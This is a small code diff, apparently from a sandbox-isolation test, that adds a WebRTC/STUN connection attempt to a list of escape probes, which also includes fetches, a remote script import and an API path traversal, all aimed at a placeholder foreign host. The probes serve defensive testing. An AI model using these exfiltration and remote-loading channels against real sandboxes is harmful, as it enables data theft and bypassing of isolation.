@@ -151,6 +151,7 @@ const THEFT = `
     caches: await later(() => caches.keys()),
     own: await later(() => fetch(ours)),
     foreign: await later(() => fetch("https://foreign.example/a")),
+    connection: within(() => new (window.RTCPeerConnection ?? window.webkitRTCPeerConnection)({ iceServers: [{ urls: "stun:foreign.example" }] })),
     script: await later(() => import("https://foreign.example/b.js")),
     picture: await loads(new Image(), "src", "https://foreign.example/c.png"),
     elsewhere: await later(() => context.api("/../user/me")),
